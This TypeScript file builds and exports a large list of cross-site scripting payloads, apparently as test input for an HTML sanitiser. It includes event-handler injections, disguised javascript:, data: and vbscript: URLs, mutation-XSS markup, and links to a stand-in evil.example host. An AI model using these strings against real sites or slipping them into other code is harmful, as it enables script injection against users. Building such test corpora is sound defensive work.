import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }

const RUN = 'alert(1)'

const events =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search seeked seeking securitypolicyviolation select selectionchange selectstart show slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel'.split(
    ' ',
  )

/** Elements that fire events by themselves, and those that rich text may contain. */
const hosts = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'p',
  'a href="https://a.example/"',
  'td',
]

/** Each event once, with the hosts in turn, in each way that an attribute can be written. */
const handlers = events.flatMap((event, at) => {
  const host = hosts[at % hosts.length] ?? 'p'
  const next = hosts[(at + 1) % hosts.length] ?? 'p'
  return [`<${host} on${event}="${RUN}">t</${host.split(' ')[0]}>`, `<${next}/oN${event.toUpperCase()}\n=\n${RUN}//>t`]
})

const disguises = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjava\nscript\r:alert(1)',
  'java&Tab;script&colon;alert&lpar;1&rpar;',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript&#58;alert(1)',
  '&#0000106&#0000097vascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://a.example/%0aalert(1)',
  'javascript&#x3A;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://a.example/1',
  'filesystem:https://a.example/temporary/1',
  'file:///etc/passwd',
  'view-source:https://a.example/',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  '/files/../../evil',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'feed:javascript:alert(1)',
  'jar:https://a.example/x.jar!/x.html',
]
const places = [
  (address: string) => `<a href="${address}">t</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">t</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y="9">t</text></a></svg>`,
  (address: string) => `<object data="${address}"><embed src="${address}"><base href="${address}">`,
]
const addresses = disguises.flatMap((address) => places.map((place) => place(address)))

/** HTML that is harmless when it is parsed once and becomes something else when it is parsed again. */
const unfolding = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<select><template><img src=x onerror=alert(1)></template><style></select><img src=x onerror=alert(1)>',
  '<table><caption><svg><desc><table><caption></svg><img src=x onerror=alert(1)>',
  '<svg><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></svg>',
  '<p><svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg></p>',
  '<a><table><a href="javascript:alert(1)">t</a></table></a>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</<img src=x onerror=alert(1)>>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="https://a.example/&quot; onclick=&quot;alert(1)">t</a>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="/files/0b0f7c6e-8a43-4a43-9d0e-0f1d9a3c9b11">',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">t</p>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<p id=cookie name=getElementById class="q:fixed q:inset-0" is=x-y slot=s part=p contenteditable tabindex=1>t</p>',
  '<x-y><script>alert(1)</script></x-y><slot onslotchange=alert(1)><template shadowrootmode=open><script>alert(1)</script></template></slot>',
  `${'<div>'.repeat(2000)}<img src=x onerror=alert(1)>`,
  `${'<ul><li>'.repeat(1000)}<img src=x onerror=alert(1)>`,
  `${'<b>'.repeat(500)}<a href="javascript:alert(1)">t${'</b>'.repeat(499)}`,
]

/** The part of the Big List of Naughty Strings that is aimed at pages. */
const collected = (naughty as string[]).filter((text) => /<|javascript:|&#/i.test(text))

/** Texts that would run, load or take over something if a page or a mail inserted them unchanged. */
export const hostileHtml: readonly string[] = [...new Set([...collected, ...handlers, ...addresses, ...unfolding])]
